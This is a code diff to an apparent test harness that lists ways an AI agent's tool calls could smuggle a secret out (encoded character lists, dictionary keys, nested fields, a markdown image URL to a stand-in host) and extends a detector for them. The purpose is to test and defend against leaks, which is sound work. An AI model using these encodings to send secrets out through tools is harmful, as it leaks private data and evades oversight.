@@ -85,6 +85,11 @@ def ways(index: str, sites: LoopbackWeb) -> Iterator[tuple[str, Mapping[str, Any
     yield "shop__fetch", {"item": f"{index}#{SECRET}"}
     yield "shop__find", {"item": "tea", "more": {"deep": [{"x": SECRET}]}}
     yield "shop__find", {"item": "tea", "number": int(SECRET.encode().hex(), 16) % 10**15}
+    given = sites.url("page.example/0")
+    yield "shop__fetch", {"item": given, SECRET: True}
+    yield "shop__fetch", {"item": given, "numbers": [ord(letter) for letter in SECRET]}
+    yield "shop__fetch", {"item": given, "more": {SECRET: {"deep": None}}}
+    yield "read_page", {"address": given, "why": SECRET}
     yield "shop__send", {"item": SECRET}
     yield "shop__send", {"item": "tea", SECRET: True}
     yield "shop__post", {"item": f"![picture]({here}{SECRET}.png)"}
@@ -176,7 +181,7 @@ def echo(name: str, arguments: Mapping[str, Any]) -> OutsideAnswer:
 
 def leaked(texts: list[str]) -> list[str]:
     """The texts that hold the secret in any of its forms, however it is escaped."""
-    forms = [form.lower() for form in written().values()]
+    forms = [*(form.lower() for form in written().values()), json.dumps([ord(letter) for letter in SECRET])]
     whole = [f"{text} {unquote(text)} {unquote(unquote(text))}".lower() for text in texts]
     return [text for text in whole if any(form in text for form in forms)]
 
